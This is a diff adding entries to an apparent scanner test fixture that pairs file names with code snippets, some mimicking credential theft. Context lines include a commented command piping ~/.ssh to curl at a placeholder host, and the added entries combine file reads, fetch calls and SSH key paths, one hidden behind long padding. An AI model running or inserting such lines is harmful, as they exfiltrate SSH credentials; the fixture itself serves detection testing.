@@ -23,6 +23,8 @@ LEAVES = [
     ("deploy.sh", b"# tar ~/.ssh | curl -T - https://x.example\naws s3 cp dist s3://bucket --recursive\n"),
     ("app.js", b"fetch('/api/contents').then(r=>r.json());const _0xabcd=1;"),
     ("server.js", b"const {spawn}=require('child_process');spawn('git',['status']);fetch(url)"),
+    ("client.js", b"readFileSync(a);fetch(b);q.describe('a host alias from ~/.ssh/config')"),
+    ("bundle.js", b"readFileSync(a);fetch(b);" + b"x=1;" * 8_000 + b"t('put it into ~/.ssh/id_rsa')"),
     ("src/lib.rs", b'Command::new("git").arg("rev-parse").output();let u = "https://crates.io";'),
     ("build.rs", b'println!("cargo:rerun-if-changed=build.rs"); Command::new("cmake").arg("..").status();'),
 ]
